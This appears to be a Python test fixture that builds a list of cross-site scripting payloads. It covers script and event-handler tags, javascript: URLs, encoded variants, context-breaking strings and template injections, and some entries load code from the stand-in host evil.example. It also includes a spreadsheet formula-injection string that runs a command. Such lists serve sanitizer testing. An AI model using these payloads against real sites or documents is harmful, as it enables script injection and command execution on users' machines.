"""Texts that try to become a script where they are drawn. Each calls alert(1), or makes an element."""

TAGS = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script>alert`1`</script>
<script type=module>alert(1)</script>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img src='x' onerror='alert(1)'>
<IMG SRC=x OnErRoR=alert(1)>
<img src=x:x onerror=alert(1)//
<img src=x onload=alert(1)
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x">
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mi xlink:href=javascript:alert(1)>x</mi></math>
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>parent.alert(1)</script>">
<iframe onload=alert(1)>
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<button onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/>
<style>*{background:red;xss:1}</style>
<style>@import '//evil.example/x.css';</style>
<div style="background:url(//evil.example/xss)">
<div style=xss:expression(alert(1))>
<a href=javascript:alert(1)>x</a>
<a href="java&#115;cript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href=data:text/html,<script>alert(1)</script>>x</a>
<form action=javascript:alert(1)><input type=submit>
<form><button formaction=javascript:alert(1)>x
<isindex action=javascript:alert(1) type=image>
<table background=javascript:alert(1)>
<div onmouseover=alert(1)>x</div>
<div onpointerenter=alert(1)>x</div>
<div data-xss=1 hx-get=//evil.example hx-trigger=load>
<div data-xss=1 hx-on::load=alert(1)>
<div data-xss=1 hx-on:htmx:load="alert(1)" hx-trigger="load">
<template shadowrootmode=open><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version=1.0?><img src=x onerror=alert(1)>
<plaintext>
<xmp><img src=x onerror=alert(1)></xmp>
""".strip().splitlines()
# Ends of the places in which a page puts text.
ENDS = (
    '"',
    "'",
    '">',
    "'>",
    "</bdi>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</script>",
    "-->",
    "`",
    "\\",
)
LOOSE = """
" onmouseover=alert(1) x="
' onfocus=alert(1) autofocus x='
" autofocus onfocus=alert(1) x="
" style=xss:1 x="
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://%0aalert(1)
data:text/html,<script>alert(1)</script>
vbscript:alert(1)
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\\x3cimg src=x onerror=alert(1)\\x3e
&lt;img src=x onerror=alert(1)&gt;
&#60;img src=x onerror=alert(1)&#62;
%3Cimg%20src=x%20onerror=alert(1)%3E
{{constructor.constructor('alert(1)')()}}
{{ 7*7 }}{% debug %}
${alert(1)}
#{alert(1)}
';alert(1)//
";alert(1)//
\\';alert(1)//
</script><script>alert(1)</script>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\ufeff<script>alert(1)</script>
<\x00script>alert(1)</script>
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
{"a": "</script><script>alert(1)</script>"}
=cmd|' /C calc'!A0
""".strip().splitlines()
STRINGS = [*TAGS, *LOOSE, *(f"{end}{tag}" for tag in TAGS[7:18] for end in ENDS)][:220]
SHORT = 100  # characters of the shortest field of a text


def texts():
    """All strings in one text, again and again, until each was in the beginning that short fields keep."""
    strings = [each.replace("\0", "") for each in STRINGS]
    at = 0
    while at < len(strings):
        yield "".join(strings[at:] + strings[:at])
        taken = len(strings[at])
        at += 1
        while at < len(strings) and taken + len(strings[at]) <= SHORT:
            taken += len(strings[at])
            at += 1
